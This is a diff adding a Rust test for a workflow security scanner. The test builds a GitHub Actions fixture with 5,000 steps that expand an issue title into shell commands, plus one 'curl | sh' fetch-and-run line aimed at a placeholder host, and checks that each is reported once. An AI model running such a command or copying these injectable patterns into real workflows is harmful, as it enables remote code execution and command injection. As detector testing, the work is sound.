@@ -300,3 +300,35 @@ fn a_command_of_tens_of_thousands_of_parts_is_split_in_one_pass() {
     assert_eq!(tests.state, shipready::evidence::State::Present);
     assert_eq!(tests.evidence[0].location.line, 6);
 }
+
+/// Steps written as one flow sequence share a line. Each step is read for the expressions
+/// and downloads in its own text only: 5,000 steps each expanding an issue title give 5,000
+/// findings, not 5,000 for every step (25 million; 30,000 such steps filled 24 GB), and the
+/// one `curl | sh` on the line is reported once.
+#[test]
+fn steps_sharing_one_line_each_report_their_own_expressions() {
+    let steps = (0..5_000)
+        .map(|i| format!("{{run: \"echo ${{{{ github.event.issue.title }}}} {i}\"}}"))
+        .collect::<Vec<_>>()
+        .join(", ");
+    let repo = repository();
+    write(
+        repo.path(),
+        ".github/workflows/triage.yml",
+        format!(
+            "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps: [{steps}, {{run: \"curl -sSL https://x.example/i.sh | sh\"}}]\n"
+        ),
+    );
+
+    let assessment = assess_within(repo.path());
+
+    let count = |id: &str| assessment.findings.iter().filter(|f| f.id == id).count();
+    assert_eq!(count("template-injection"), 5_000);
+    assert_eq!(count("curl-pipe-shell"), 1);
+    let mut columns: Vec<usize> = (assessment.findings.iter())
+        .filter(|f| f.id == "template-injection")
+        .map(|f| f.location.column)
+        .collect();
+    columns.dedup();
+    assert_eq!(columns.len(), 5_000, "each finding at its own expression");
+}
